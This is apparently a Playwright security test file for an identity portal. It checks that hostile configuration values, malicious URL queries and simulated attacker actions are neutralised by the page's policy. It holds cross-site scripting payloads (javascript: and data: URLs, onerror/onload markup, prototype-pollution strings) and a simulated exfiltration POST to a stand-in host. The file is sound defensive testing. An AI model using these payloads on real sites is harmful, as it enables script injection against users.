/**
 * Attacks on a page: hostile configuration, hostile addresses, framing, opened windows. Hostile input to parsers is in
 * tests/unit/attacks.
 */
import type { Page } from 'playwright/test';
import { waitingButtons } from '../a11y/states.ts';
import { isFullRun } from '../support/full-run.ts';
import { specifiedPages } from '../support/pages.ts';
import { sampleText } from '../unit/config/sample.ts';
import { expect, keepFromLeaving, runUntil, stopClock, test } from './test.ts';

const hostileAddresses = [
  'javascript:alert(1)',
  'java\nscript:alert(1)',
  'data:text/html,<script>alert(1)</script>',
  'blob:http://localhost/1',
  'vbscript:x',
];

/**
 * Pages that `npm test` visits: one for each script that reads the address, and one of each layout. The audit visits
 * all.
 */
const readers = /gerer|valider|\/ear|non-autorise|identite-pivot|device|endAuth-FI/;
const visitedPages = specifiedPages.filter(({ path }) => isFullRun || readers.test(path));

for (const { path, layout } of visitedPages.filter((page) => page.path !== '/ear'))
  test(`the configuration cannot put hostile addresses or markup into ${path}`, async ({
    page,
    setConfig,
    faults,
  }) => {
    faults.expected.push(/404/);
    const links = hostileAddresses.map((href) => ({
      libelle: '<img src=x onerror=alert(1)>',
      href,
    }));
    await stopClock(page);
    await setConfig({
      portailUrl: 'javascript:alert(1)',
      env: '<script>alert(1)</script>',
      header: [...links, { libelle: '<b>Texte</b>', href: '/sur' }],
      footer: links,
      simplePages: {
        googlePlayUrl: 'javascript:alert(1)',
        appStoreUrl: 'data:text/html,1',
        franceConnectUrl: 'javascript:alert(1)',
        googlePlayBadge: 'javascript:alert(1)',
        appStoreBadge: 'data:image/svg+xml,<svg onload=alert(1)>',
        googlePlayMessage: '<img src=x onerror=alert(1)>',
        appStoreMessage: 4,
        identityInfoUrl: 'javascript:alert(1)//',
      },
      embeddedApps: {
        gestionCompte: 'https://autre.example/app.js',
        validerAttest: 'data:text/javascript,alert(1)',
      },
    });
    faults.expected.push(/identityInfoUrl manque/);
    page.on('dialog', (dialog) => {
      faults.messages.push(`dialogue : ${dialog.message()}`);
      return dialog.dismiss();
    });
    await page.goto(path);
    // The layouts that show the menu redraw it from the hostile configuration.
    const isDrawn = () => page.locator('header').getByText('<b>Texte</b>').count().then(Boolean);
    if (layout === 'main') await runUntil(page, isDrawn);
    await page.clock.runFor(2000);
    await page.waitForLoadState('networkidle');
    const addresses = await page.evaluate(() =>
      [...document.querySelectorAll<HTMLElement>('[href], [src]')]
        .filter((element) => !element.matches('link[rel="icon"]'))
        .map((element) => element.getAttribute('href') ?? element.getAttribute('src') ?? ''),
    );
    expect(
      addresses.filter((address) => !/^(https?:|mailto:|tel:|#|\/|\.|[\w-]+\/)/.test(address)),
    ).toEqual([]);
    expect(await page.locator('img[src="x"]').count()).toBe(0);
    await expect(page.getByRole('heading', { level: 1 })).toBeVisible();
    // Proves that the hostile configuration was applied: its markup is shown as text.
    if (layout === 'main') await expect(page.locator('header')).toContainText('<b>Texte</b>');
  });

/** Text that could run, close its element, hide or reverse the following text, or name a prototype. */
const hostileText =
  '"><img src=x onerror=alert(1)><script>alert(1)</script>\u202e\u200b\0&lt;__proto__';
const encoded = encodeURIComponent(hostileText);

/** Hostile queries and fragments, with parameters that the portal reads and with others. */
const hostileSuffixes = [
  `?identificationId=${encoded}&situation=${encoded}&redirect=https://autre.example&${encoded}=1#${encoded}`,
  '?situation=__proto__&droit=constructor&identificationId=constructor&next=//autre.example#content"onfocus="alert(1)',
  `?situation=../..&${'a'.repeat(6000)}=${'%00'.repeat(300)}#javascript:alert(1)`,
];

/** Returns in one string what an attack would change: title, text, links, and names of elements such as `script`. */
function contentOf(page: Page): Promise<string> {
  return page.evaluate(() =>
    [
      document.title,
      document.querySelector('main')?.textContent,
      ...[...document.querySelectorAll('a[href]')].map((link) => link.getAttribute('href')),
      ...[...document.querySelectorAll('script, img, iframe, style')].map(
        ({ localName }) => localName,
      ),
    ].join('\n'),
  );
}

/** Origin of the configured portal, the only other origin to which a page may redirect. */
const { origin: portail } = new URL(JSON.parse(sampleText).portailUrl);

/** Opens an address. Returns the page's content, and the origins to which the page tried to navigate. */
async function visit(page: Page, address: string): Promise<{ content: string; led: string[] }> {
  const destinations = await keepFromLeaving(page);
  await page.goto(address, { waitUntil: 'networkidle' });
  // On a busy machine, the network can be idle before the form works.
  await expect(waitingButtons(page)).toHaveCount(0);
  const content = await contentOf(page);
  return { content, led: destinations.map((url) => new URL(url).origin) };
}

for (const { path } of visitedPages)
  test(`hostile queries and fragments change nothing on ${path}`, async ({
    context,
    faults,
    baseURL,
  }) => {
    // The identity service does not know the hostile identifiers.
    faults.expected.push(/Failed to load resource/, /identité : /);
    context.on('dialog', (dialog) => {
      faults.messages.push(`dialogue : ${dialog.message()}`);
      return dialog.dismiss();
    });
    const addresses = ['', ...hostileSuffixes].map((suffix) => `${path}${suffix}`);
    const visits = await Promise.all(
      addresses.map(async (address) => visit(await context.newPage(), address)),
    );
    const [plain] = visits;
    for (const { content, led } of visits) {
      expect(content).toBe(plain?.content);
      expect(led.filter((origin) => ![baseURL ?? '', portail].includes(origin))).toEqual([]);
    }
    if (path === '/ear') expect(plain?.led).toEqual([baseURL]);
  });

/**
 * Runs in the page: tries the next steps of an attacker who already runs a script. Returns the attempts that succeeded.
 */
async function tryEverything(): Promise<string[]> {
  const factory = globalThis as {
    trustedTypes?: { createPolicy: (name: string, rules: object) => unknown };
  };
  const attempts: Record<string, () => unknown> = {
    'écrire du HTML': () => document.body.insertAdjacentHTML('beforeend', '<b>texte</b>'),
    'écrire un gestionnaire': () => document.body.setAttribute('onclick', 'alert(1)'),
    'écrire un script': () => {
      document.createElement('script').text = 'alert(1)';
    },
    'charger un script d’ailleurs': () => {
      document.createElement('script').src = 'https://autre.example/a.js';
    },
    'démarrer un travailleur': () => new Worker(URL.createObjectURL(new Blob(['1']))),
    'créer une politique': () => factory.trustedTypes?.createPolicy('autre', {}),
    'envoyer ailleurs': () => fetch('https://autre.example/', { method: 'POST', body: 'x' }),
    'changer la base des adresses': () => {
      const base = document.createElement('base');
      base.href = 'https://autre.example/';
      document.head.append(base);
      if (document.baseURI === location.href) throw new Error('sans effet');
    },
  };
  const survived: string[] = [];
  for (const [name, attempt] of Object.entries(attempts))
    try {
      await attempt();
      survived.push(name);
    } catch {
      // The policy blocked the attempt.
    }
  return survived;
}

for (const path of ['/gestion-compte/gerer', '/valider-attest', '/pages-simples/endAuth-FC'])
  test(`the policy of ${path} blocks the next steps of an attack`, async ({ page, faults }) => {
    faults.provoked.push(/.*/);
    await page.goto(path, { waitUntil: 'networkidle' });
    expect(await page.evaluate(tryEverything)).toEqual([]);
    expect(faults.violations.length).toBeGreaterThan(6);
  });
